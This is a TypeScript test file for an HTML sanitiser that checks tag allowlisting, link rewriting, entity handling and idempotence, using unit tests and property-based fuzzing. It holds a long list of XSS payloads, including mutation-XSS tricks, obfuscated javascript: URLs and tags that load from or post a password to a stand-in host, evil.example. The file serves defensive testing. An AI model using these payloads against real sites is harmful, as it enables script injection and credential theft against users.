import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanHtml, plainHtml, plainText, hasVisibleText } from './sanitise.ts';

/** The output consists of these pieces only: text without angle brackets, and the allowed tags as we write them. */
const harmless =
  /^([^<>]|<\/?(p|b|strong|i|em|u|s|span|ul|ol|li|blockquote|h3|h4)>|<br \/>|<a>|<a href="(https?:\/\/|mailto:)[^"<>]*" target="_blank" rel="noopener nofollow">|<\/a>)*$/i;

const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<p onclick="alert(1)" style="position:fixed;inset:0" class="ui-button">x</p>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "//evil.example/x.css"</style>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">ok</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="/wallet?to=https://evil.example">x</a>',
  '<a href="javascript:alert(1)//https://ok.example">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001 javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="jav\u0000ascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/control/worlds">x</a>',
  '<a href="https:login">x</a>',
  '<a href="https:/control/worlds">x</a>',
  '<a href="http:">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://ok.example/\"onmouseover=alert(1) x=\"">x</a>',
  "<a href='https://ok.example/\"><img src=x onerror=alert(1)>'>x</a>",
  '<a href="https://ok.example" target="_self" rel="opener" ping="//evil.example" download>x</a>',
  '<a href="https://ok.example" href="javascript:alert(1)">x</a>',
  '<b onfocus=alert(1) autofocus tabindex=1>x',
  '<p>unclosed <b>and <i>nested',
  '</p></div></body></html><script>alert(1)</script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo "<script>alert(1)</script>" ?>',
  '<\u0000script>alert(1)</script>',
  '<p\u0000 onclick=alert(1)>x</p>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<custom-element onclick="alert(1)">x</custom-element>',
  '<p id="root" name="location" data-page="x" is="x-p">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<' + 'b>'.repeat(5) + '<'.repeat(50),
  '<b>'.repeat(3000) + 'deep',
];

describe('cleanHtml', () => {
  it.each(payloads)('returns harmless HTML for %j', (payload) => {
    const clean = cleanHtml(payload);
    expect(clean).toMatch(harmless);
    expect(cleanHtml(clean)).toBe(clean);
  });

  it('returns harmless HTML for any input, and the same HTML for its own output', () => {
    const pieces = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '=',
        '/',
        '&',
        ';',
        '\u0000',
        '<!--',
        '-->',
        '<svg>',
        '<style>',
        '</style>',
        '<math>',
      ],
      ...[
        '<b>',
        '</b>',
        '<a href=',
        'javascript:',
        'https://x',
        '<p ',
        'onclick=',
        '&lt;',
        '&#60;',
        '<script>',
        'x ',
      ],
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string())), (parts) => {
        const clean = cleanHtml(parts.join(''));
        expect(clean).toMatch(harmless);
        expect(cleanHtml(clean)).toBe(clean);
      }),
      { numRuns: 500 },
    );
  });

  it('removes control characters, including those written as entities', () => {
    expect(cleanHtml('a\u0000b &#0;&#7;c &#0')).toBe('ab c');
  });

  it('keeps twenty levels of elements, and the text of deeper ones', () => {
    const clean = cleanHtml('<b>'.repeat(3000) + 'deep');
    expect(clean.match(/<b>/g)).toHaveLength(20);
    expect(clean).toContain('deep');
  });

  it('keeps ordinary text and formatting', () => {
    const html = '<h3>Day 1</h3><p>Bought a <b>trommel</b> &amp; a <i>sluice box</i>.<br />2 &lt; 3</p>';
    expect(cleanHtml(html)).toBe(html);
    expect(cleanHtml('<ul><li>one</li></ul><blockquote>two</blockquote>')).toBe(
      '<ul><li>one</li></ul><blockquote>two</blockquote>',
    );
    expect(cleanHtml('two\nlines, ₹ 5 नमस्ते 👩‍🚀')).toBe('two\nlines, ₹ 5 नमस्ते 👩‍🚀');
  });

  it('opens external links in a new tab with noopener and nofollow; removes the address of internal links', () => {
    expect(cleanHtml('<a href="https://ok.example/a?b=1&amp;c=2" onclick="x()">go</a>')).toBe(
      '<a href="https://ok.example/a?b=1&amp;c=2" target="_blank" rel="noopener nofollow">go</a>',
    );
    expect(cleanHtml('<a href="mailto:a@ok.example">write</a>')).toContain('href="mailto:a@ok.example"');
    expect(cleanHtml('<a href="/control">go</a>')).toBe('<a>go</a>');
  });
});

describe('plainHtml', () => {
  it.each(payloads)('escapes all markup in %j', (payload) => {
    expect(plainHtml(payload)).toMatch(/^[^<>"']*$/);
  });

  it('escapes the special characters of HTML', () => {
    expect(plainHtml(`<b>"Tom" & 'Jerry'</b>`)).toBe(
      '&lt;b&gt;&quot;Tom&quot; &amp; &#39;Jerry&#39;&lt;/b&gt;',
    );
  });
});

describe('plainText', () => {
  const tags = /<\/?[a-z!?]/i;

  it.each(payloads)('removes all tags from %j, including escaped ones', (payload) => {
    const escaped = (html: string) => html.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
    for (const hidden of [payload, escaped(payload), escaped(escaped(escaped(payload)))]) {
      const text = plainText(hidden);
      expect(text).not.toMatch(tags);
      expect(plainText(text)).toBe(text);
      expect(text).not.toMatch(/&(lt|gt|#0*(60|62)|#x0*3[ce])/i);
    }
  });

  it.each([
    ['1 < 2', '1 < 2'],
    ['1 < 2 & 3 > 2', '1 < 2 & 3 > 2'],
    ['1 &lt; 2', '1 < 2'],
    ['one\ntwo, ₹ 5 “नमस्ते” 👩‍🚀', 'one\ntwo, ₹ 5 “नमस्ते” 👩‍🚀'],
    ['/a?b=1&copy=2&lang=en', '/a?b=1&copy=2&lang=en'],
    ['<b>Tom</b> &amp; &#74;erry', 'Tom & Jerry'],
    ['&#38;#60;b&#38;#62;bold', 'bold'],
    ['&#x110000;&#0;', ''],
    [`${'&amp;'.replace('&', '&amp;'.repeat(1))}lt;b>`, ''],
    [
      `&${'amp;'.repeat(200)}lt;img src=x onerror=alert(1)>`,
      'amp;'.repeat(180) + 'lt;img src=x onerror=alert(1)',
    ],
  ])('converts %j to %j', (html, text) => expect(plainText(html)).toBe(text));

  it('returns text without tags for any input, and the same text for its own output', () => {
    const pieces = fc.constantFrom(
      '<',
      '>',
      '&',
      ';',
      '&lt;',
      '&#60',
      '&amp;',
      '<b>',
      '<!--',
      '<script>',
      'x',
      ' ',
      '/',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string())), (parts) => {
        const text = plainText(parts.join(''));
        expect(text).not.toMatch(/<\/?[a-z]/i);
        expect(plainText(text)).toBe(text);
      }),
      { numRuns: 500 },
    );
  });
});

describe('hasVisibleText', () => {
  it.each(['', ' ', '<p></p>', '<p><br /></p>', '\u00a0', '\u200b\u2800', '<b>\u3164</b>'])(
    'returns false for %j',
    (html) => expect(hasVisibleText(html)).toBe(false),
  );
  it.each(['a', '<p>👍</p>', '1', '!', '&lt;'])('returns true for %j', (html) =>
    expect(hasVisibleText(html)).toBe(true),
  );
});
